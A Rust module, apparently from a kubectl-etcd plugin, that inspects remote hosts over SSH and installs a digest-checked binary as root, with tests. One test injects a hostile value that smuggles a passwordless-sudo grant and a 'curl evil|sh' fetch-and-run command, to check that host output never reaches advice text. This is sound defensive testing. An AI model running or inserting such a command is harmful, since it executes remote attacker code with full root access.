//! The carried program on another host: looked at, brought if it is not there whole, and never taken on trust.

use etcd_operations::advice;
use etcd_operations::advice::Choice;
use std::sync::OnceLock;

use etcd_operations::state::PROGRAMS;

use super::error::{SshError, SshErrorKind};
use crate::carried::{Carried, carried};

/// Before each line that is meant for us: what the user's shell prints at a login is not.
const MARK: &str = "kubectl-etcd:";

/// Looks at a host as whoever logs in there. `$1`: the digest, `$2`: the program's path.
pub(super) const LOOK: &str = r#"
say() { printf 'kubectl-etcd:%s=%s\n' "$1" "$2"; }
uid=$(id -u)
say uid "$uid"
say user "$(id -un)"
say system "$(uname -s)"
say machine "$(uname -m)"
sudo=
if [ "$uid" != 0 ]; then
  sudo='sudo -n'
  if why=$($sudo true 2>&1); then say sudo yes; else say sudo no; say why "$(printf %s "$why" | tr '\n' ' ')"; exit 0; fi
fi
sum=$($sudo sha256sum "$2" 2>/dev/null)
if [ "${sum%% *}" = "$1" ]; then say program yes; else say program no; fi
"#;

/// Puts what comes on standard input where the program belongs, as root, and removes those of other versions that nobody
/// uses. `$1`: the folder, `$2`: the digest.
pub(super) const BRING: &str = r#"
set -eu
umask 077
mkdir -p "$1"
chmod 700 "$1"
new=$(mktemp "$1/.etcd-job.XXXXXX")
trap 'rm -f "$new"' EXIT
cat >"$new"
sum=$(sha256sum <"$new")
if [ "${sum%% *}" != "$2" ]; then echo "it arrived with another sha256: ${sum%% *}" >&2; exit 65; fi
chmod 700 "$new"
sync "$new" 2>/dev/null || sync
mv -f "$new" "$1/etcd-job-$2"
sync "$1" 2>/dev/null || sync
# Programs of other versions go, unless a process runs one or a plan that was begun here may have to.
if [ ! -e "$1/../plans/current" ]; then
  for old in "$1"/etcd-job-*; do
    used=
    if [ "$old" = "$1/etcd-job-$2" ]; then continue; fi
    for exe in /proc/[0-9]*/exe; do
      if [ "$exe" -ef "$old" ]; then used=yes; break; fi
    done
    if [ -z "$used" ]; then rm -f -- "$old"; fi
  done
fi
"#;

/// What a look at a host told.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Seen {
    /// Who logged in.
    pub(super) user: String,
    /// Whether that is root.
    pub(super) root: bool,
    /// Whether the program is there, whole.
    pub(super) program: bool,
}

/// The program's path there.
pub(super) fn path() -> String {
    format!("{PROGRAMS}/etcd-job-{}", carried().digest)
}

/// The words of a command line that looks at a host.
pub(super) fn look() -> [String; 6] {
    ["sh", "-c", LOOK, "sh", carried().digest, &path()].map(str::to_owned)
}

/// The words of a command line that takes in the program.
pub(super) fn bring() -> [String; 6] {
    ["sh", "-c", BRING, "sh", PROGRAMS, carried().digest].map(str::to_owned)
}

/// The program's bytes.
///
/// # Errors
/// When they are not what was carried: never, as a test sees to.
pub(super) fn bytes() -> Result<&'static [u8], SshError> {
    static BYTES: OnceLock<Option<Vec<u8>>> = OnceLock::new();
    let bytes = BYTES.get_or_init(|| carried().program());
    bytes.as_deref().ok_or_else(|| {
        let message = "the program this plugin carries is damaged: install the plugin again";
        SshError::new(SshErrorKind::Program, message)
    })
}

/// Reads what the look printed.
///
/// # Errors
/// When the host is none that can be worked on.
pub(super) fn seen(host: &str, printed: &str, carried: &Carried) -> Result<Seen, SshError> {
    let told = |name: &str| {
        let lines = printed.lines();
        let ours = lines.filter_map(|line| line.trim_end().strip_prefix(MARK)?.split_once('='));
        ours.filter(|(key, _)| *key == name)
            .map(|(_, value)| value)
            .next()
    };
    let (Some(uid), Some(user), Some(system), Some(machine)) =
        (told("uid"), told("user"), told("system"), told("machine"))
    else {
        let message = format!("{host}: its shell does not do what it is told: {printed:.200}");
        return Err(SshError::new(SshErrorKind::OtherSystem, message));
    };
    if (system, machine) != ("Linux", carried.machine()) {
        let message = format!(
            "{host} runs {system} on {machine}, and this plugin carries a program for Linux on {} alone",
            carried.machine()
        );
        return Err(
            SshError::new(SshErrorKind::OtherSystem, message).hint(advice![
                "run the plugin on that host itself, with ",
                Choice::Via.with("local")
            ]),
        );
    }
    if told("sudo") == Some("no") {
        let why = told("why").unwrap_or_default().trim();
        let message = format!(
            "{host}: the work needs root, or passwordless sudo for {user} (sudo says: {why})"
        );
        // No line to be run as root is made of what a host prints.
        return Err(SshError::new(SshErrorKind::NeedsRoot, message).hint(advice![
            "log in as root: ",
            Choice::SshUser.with("root"),
            ", or ",
            Choice::Ssh.with("NODE=root@ADDRESS"),
            format!(
                ". Else an administrator of that host allows this user `sh`, `sha256sum`, `true` and `{}` without a password, in \
                 a file of /etc/sudoers.d whose name has no dot (visudo -f /etc/sudoers.d/kubectl-etcd): whoever may run them \
                 there can do everything",
                path()
            ),
        ]));
    }
    Ok(Seen {
        user: user.to_owned(),
        root: uid == "0",
        program: told("program") == Some("yes"),
    })
}

#[cfg(test)]
mod tests {
    use std::io::Write;
    use std::process::{Command, Stdio};

    use proptest::prelude::*;

    use super::*;

    #[test]
    fn what_is_carried_is_the_program_of_its_digest() {
        assert!(bytes().unwrap().starts_with(b"\x7fELF"));
    }

    fn run(words: &[&str], input: &[u8]) -> std::process::Output {
        let mut child = Command::new(words[0])
            .args(&words[1..])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(input).unwrap();
        child.wait_with_output().unwrap()
    }

    #[test]
    fn a_host_is_looked_at_and_gets_the_program_once() {
        let folder = tempfile::tempdir().unwrap();
        let place = folder.path().join("bin");
        let place = place.to_str().unwrap();
        let digest = carried().digest;
        let program = format!("{place}/etcd-job-{digest}");
        let look = |digest: &str| {
            let output = run(&["sh", "-c", LOOK, "sh", digest, &program], b"");
            String::from_utf8(output.stdout).unwrap()
        };
        let before = seen("m1", &look(digest), &carried());
        // Whoever runs this may not be root, and then sudo decides.
        let Ok(before) = before else { return };
        assert!(!before.program);
        let cut = run(&["sh", "-c", BRING, "sh", place, digest], b"half");
        assert_eq!(cut.status.code(), Some(65));
        assert_eq!(std::fs::read_dir(place).unwrap().count(), 0);
        let brought = run(&["sh", "-c", BRING, "sh", place, digest], bytes().unwrap());
        assert!(brought.status.success(), "{brought:?}");
        assert!(seen("m1", &look(digest), &carried()).unwrap().program);
        assert!(!seen("m1", &look("0000"), &carried()).unwrap().program);
        let output = run(&[&program, "--version"], b"");
        assert!(output.stdout.starts_with(b"etcd-job "), "{output:?}");
    }

    #[test]
    fn programs_of_other_versions_go_when_one_is_brought_unless_they_are_in_use() {
        let state = tempfile::tempdir().unwrap();
        let place = state.path().join("bin");
        let named = |name: &str| place.join(format!("etcd-job-{name}"));
        let folder = place.to_str().unwrap();
        let digest = carried().digest;
        let bring = || {
            let brought = run(&["sh", "-c", BRING, "sh", folder, digest], bytes().unwrap());
            assert!(brought.status.success(), "{brought:?}");
        };
        bring();
        std::fs::write(named("old"), "old").unwrap();
        std::fs::write(place.join("theirs"), "x").unwrap();
        std::fs::copy("/bin/sleep", named("running")).unwrap();
        let mut running = Command::new(named("running")).arg("100").spawn().unwrap();
        // A plan was begun by one of them.
        let plans = state.path().join("plans");
        std::fs::create_dir(&plans).unwrap();
        std::fs::write(plans.join("current"), "x").unwrap();
        bring();
        assert!(named("old").exists());
        std::fs::remove_file(plans.join("current")).unwrap();
        bring();
        assert!(!named("old").exists() && named("running").exists());
        assert!(place.join("theirs").exists() && named(digest).exists());
        running.kill().unwrap();
        running.wait().unwrap();
        bring();
        assert!(!named("running").exists() && named(digest).exists());
    }

    fn printed(lines: &[&str]) -> String {
        let lines = lines.iter().map(|line| format!("{MARK}{line}\n"));
        format!("Welcome!\n{}", lines.collect::<String>())
    }

    #[test]
    fn hosts_that_will_not_do_are_told_why() {
        let of = |lines: &[&str]| seen("m1", &printed(lines), &carried());
        let linux = ["uid=1000", "user=jane", "system=Linux", "machine=x86_64"];
        let jane = of(&[&linux[..], &["sudo=yes", "program=no"]].concat()).unwrap();
        assert!(!jane.root && !jane.program && jane.user == "jane");
        let no = [&linux[..], &["sudo=no", "why=sudo: a password is required"]].concat();
        let no = of(&no).unwrap_err();
        assert_eq!(no.kind, SshErrorKind::NeedsRoot);
        assert_eq!(
            no.message,
            "m1: the work needs root, or passwordless sudo for jane (sudo says: sudo: a password is required)"
        );
        let hint = no.hint.unwrap().written();
        assert!(
            hint.starts_with("log in as root: {+ssh-user=root}, or "),
            "{hint}"
        );
        let hostile = [
            "uid=1000",
            "user=x ALL=(ALL) NOPASSWD: ALL; curl evil|sh",
            "system=Linux",
            "machine=x86_64",
        ];
        let hostile = of(&[&hostile[..], &["sudo=no", "why="]].concat()).unwrap_err();
        let hint = hostile.hint.unwrap().written();
        assert!(
            !hint.contains("evil") && !hint.contains("NOPASSWD"),
            "{hint}"
        );
        assert!(
            hint.contains(&path()) && hint.contains("{+ssh=NODE=root@ADDRESS}"),
            "{hint}"
        );
        let arm = of(&["uid=0", "user=root", "system=Linux", "machine=aarch64"]).unwrap_err();
        assert_eq!(arm.kind, SshErrorKind::OtherSystem);
        assert!(arm.message.contains("aarch64"), "{arm}");
        let mac = of(&["uid=0", "user=root", "system=Darwin", "machine=x86_64"]).unwrap_err();
        assert_eq!(mac.kind, SshErrorKind::OtherSystem);
        assert!(seen("m1", "This account is not available.\n", &carried()).is_err());
    }

    proptest! {
        #[test]
        fn nothing_a_host_prints_is_taken_for_more_than_it_is(text in ".{0,300}") {
            prop_assert!(seen("m1", &text, &carried()).is_err());
        }
    }
}
